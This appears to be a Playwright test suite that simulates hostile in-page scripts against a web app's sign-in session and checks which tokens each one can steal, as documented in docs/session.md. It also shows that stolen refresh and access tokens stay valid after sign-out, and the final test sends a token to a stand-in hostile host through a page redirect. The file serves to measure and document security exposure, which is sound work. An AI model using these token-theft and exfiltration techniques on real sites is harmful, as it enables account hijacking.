import { readFile } from 'node:fs/promises'
import type { Page } from 'playwright/test'
import type { LocalEntra } from '#local-entra'
import { expect, whereabouts } from '../../support/fixtures.ts'
import { test } from '../../support/hostile-host.ts'
import type { LeakWatch } from '../../support/leak-watch/leak-watch.ts'
import {
  callApi,
  callSession,
  listenToBroadcasts,
  type OwnSignIn,
  readStores,
  replaceBuiltIns,
  searchObjects,
  signInInFrame,
} from '../../support/hostile-script/in-page.ts'
import type { Secret } from '../../support/leak-watch/secrets.ts'
import { accountButton, forecastRows, plainAccount } from '../../support/person.ts'
import {
  chooseInMenu,
  enter,
  expectSignedOut,
  hour,
  openTab,
  pass,
} from '../../support/session-steps.ts'

/** The name of the function with which a hostile script reports in these journeys. */
const report = 'hostileReport'

interface Victim {
  page: Page
  stack: LocalEntra
  origin: string
  /** Everything that the script has reported so far. */
  reports: () => string
}

interface Attack {
  /** Runs the script. @returns what it read, besides its reports */
  run: (victim: Victim) => Promise<string>
  /** By default, the user has just signed in and sees the forecast. */
  before?: (victim: Victim) => Promise<void>
  /** The identity provider is on another site, so that its frames get no cookies. */
  isOtherSite?: boolean
}

const ownSignIn = ({ stack: { appConfig }, origin }: Victim): OwnSignIn => ({
  authorize: appConfig.authorityMetadata.authorization_endpoint,
  token: appConfig.authorityMetadata.token_endpoint,
  clientId: appConfig.clientId,
  redirectUri: `${origin}/redirect.html`,
  scope: `openid profile offline_access ${appConfig.weatherApi.scope}`,
})

const signInInOwnFrame = (victim: Victim) => victim.page.evaluate(signInInFrame, ownSignIn(victim))

async function startEarly({ page, origin }: Victim): Promise<void> {
  await page.addInitScript(replaceBuiltIns, [origin, report])
}

async function openForecastAgain(page: Page): Promise<void> {
  await page.getByRole('link', { name: 'Flow' }).click()
  await page.getByRole('link', { name: 'Forecast' }).click()
  await expect(forecastRows(page)).toHaveCount(5)
}

const signIn = ({ page, stack }: Victim) => enter(page, stack)

/** What a script does, as the table in docs/session.md names it. */
const attacks: Record<string, Attack> = {
  'reads the stores, the address and the document': {
    run: ({ page }) => page.evaluate(readStores),
  },
  'searches every object it can reach': {
    run: ({ page }) => page.evaluate(searchObjects),
  },
  'calls the session that it finds in React’s data': {
    run: ({ page, stack }) => page.evaluate(callSession, stack.appConfig.weatherApi.scope),
  },
  'replaces built-in functions, until the next API request': {
    run: async ({ page, origin, reports }) => {
      await page.evaluate(replaceBuiltIns, [origin, report])
      await openForecastAgain(page)
      return reports()
    },
  },
  'replaces built-in functions, until the next renewal': {
    before: async (victim) => {
      await victim.page.clock.install()
      await signIn(victim)
    },
    run: async ({ page, stack, origin, reports }) => {
      await page.evaluate(replaceBuiltIns, [origin, report])
      await pass(page, stack, 1.5 * hour)
      await expect.poll(reports).toContain('"refresh_token"')
      return reports()
    },
  },
  'signs in through a hidden frame of its own': { run: signInInOwnFrame },
  'does the same where frames get no cookies': { run: signInInOwnFrame, isOtherSite: true },
  'starts before the app, at a sign-in': {
    before: startEarly,
    run: async (victim) => {
      await signIn(victim)
      return victim.reports()
    },
  },
  'starts before the app, at a reload': {
    run: async (victim) => {
      await startEarly(victim)
      await victim.page.reload()
      await expect(forecastRows(victim.page)).toHaveCount(5)
      return victim.reports()
    },
  },
  'listens in another tab, at a sign-in': {
    run: async ({ page, reports }) => {
      await page.evaluate(listenToBroadcasts, report)
      await openTab(page.context())
      return reports()
    },
  },
  'follows the sign-in link of the app': {
    before: async ({ page, stack }) => {
      await stack.control.signInAs(page.context(), plainAccount)
      await page.goto('/')
    },
    run: async ({ page, origin, reports }) => {
      await page.evaluate(replaceBuiltIns, [origin, report])
      await page.getByRole('link', { name: 'Sign in' }).click()
      await expect(accountButton(page, plainAccount)).toBeVisible()
      return reports()
    },
  },
  'starts after sign-out': {
    before: async (victim) => {
      await signIn(victim)
      await chooseInMenu(victim.page, 'Sign out')
      await expectSignedOut(victim.page)
    },
    run: async ({ page }) =>
      (await page.evaluate(readStores)) + (await page.evaluate(searchObjects)),
  },
}

/** The cells of the table in docs/session.md, by its rows. */
async function readTable(): Promise<Record<string, Record<'session' | 'memory', string>>> {
  const page = await readFile('docs/session.md', 'utf8')
  const rows = page
    .slice(page.indexOf('| a script that'))
    .split(/\r?\n\r?\n/, 1)
    .flatMap((table) => table.split(/\r?\n/).slice(2))
  return Object.fromEntries(
    rows.map((row) => {
      const [, name = '', session = '', memory = ''] = row.split('|').map((cell) => cell.trim())
      return [name, { session, memory }]
    }),
  )
}

/** Names what is in a text, as the table does. */
function describeLoot(text: string, leaks: LeakWatch): string {
  const kinds = leaks.kindsIn(text)
  const found = Object.keys(shortNames).filter((kind) => kinds.includes(kind as Secret['kind']))
  const names = found.map((kind) => shortNames[kind as Secret['kind']])
  return [...names, ...(text.includes(plainAccount) ? ['account'] : [])].join(', ') || 'nothing'
}

const shortNames: Record<Secret['kind'], string> = {
  'access token': 'access',
  'refresh token': 'refresh',
  'ID token': 'ID',
  'authorization code': 'code',
  'code verifier': 'verifier',
}

test('docs/session.md has a row for each of these scripts', async () => {
  expect(Object.keys(await readTable())).toEqual(Object.keys(attacks))
})

// In a context of its own: what the script takes is no leak of the app, and closing the context removes what it planted.
for (const [name, { before = signIn, run, isOtherSite = false }] of Object.entries(attacks)) {
  test(`a script that ${name} gets what docs/session.md says`, async ({
    browser,
    leaks,
    site,
    stack,
    tokenStorage,
    faults,
  }) => {
    const origin = isOtherSite ? site.origin.replace('localhost', '127.0.0.1') : site.origin
    stack.control.addAppOrigin(origin)
    const context = await browser.newContext({ baseURL: origin })
    let reported = ''
    await context.exposeFunction(report, (text: string) => {
      reported += text
    })
    const page = await context.newPage()
    const victim = { page, stack, origin, reports: () => reported }
    await before(victim)
    const taken = await run(victim)
    const documented = (await readTable())[name]?.[tokenStorage]
    // The answer of a token endpoint reaches the leak watch a moment after the page.
    await expect.poll(() => describeLoot(taken + reported, leaks)).toBe(documented)
    await context.close()
    await leaks.take(await whereabouts(site, stack))
    faults.take()
  })
}

/** Lets a hostile script sign in, and reads the tokens that it got. */
async function stealTokens(victim: Victim): Promise<{ access: string; refresh: string }> {
  await signIn(victim)
  const taken = await signInInOwnFrame(victim)
  const { access_token: access = '', refresh_token: refresh = '' } = JSON.parse(
    taken.slice(taken.indexOf('{')),
  ) as Record<string, string>
  return { access, refresh }
}

test('stolen tokens work in the page and elsewhere, also after sign-out', async ({
  browser,
  site,
  stack,
  leaks,
}) => {
  const page = await browser.newPage({ baseURL: site.origin })
  const victim = { page, stack, origin: site.origin, reports: () => '' }
  const { access, refresh } = await stealTokens(victim)
  // First in the page, where the API sees the user's own browser.
  expect(await page.evaluate(callApi, [stack.weatherApi.url, access])).toMatch(/^200 \[/)
  await chooseInMenu(page, 'Sign out')
  await expectSignedOut(page)
  const { token, clientId, scope } = ownSignIn(victim)
  const called = await fetch(stack.weatherApi.url, {
    headers: { Authorization: `Bearer ${access}` },
  })
  const renewed = await fetch(token, {
    method: 'POST',
    headers: { Origin: site.origin },
    body: new URLSearchParams({
      grant_type: 'refresh_token',
      client_id: clientId,
      scope,
      refresh_token: refresh,
    }),
  })
  expect([called.status, renewed.status]).toEqual([200, 200])
  expect(await renewed.json()).toMatchObject({ token_type: 'Bearer' })
  await page.close()
  await leaks.take(await whereabouts(site, stack))
})

test('a script can take a token to another host by leaving the page', async ({
  browser,
  site,
  stack,
  leaks,
  hostile,
}) => {
  const page = await browser.newPage({ baseURL: site.origin })
  const { access } = await stealTokens({ page, stack, origin: site.origin, reports: () => '' })
  await page.evaluate((url) => location.assign(url), `${hostile.origin}/?taken=${access}`)
  await expect.poll(() => hostile.paths()).toContain(`/?taken=${access}`)
  await page.close()
  await leaks.take(await whereabouts(site, stack))
})
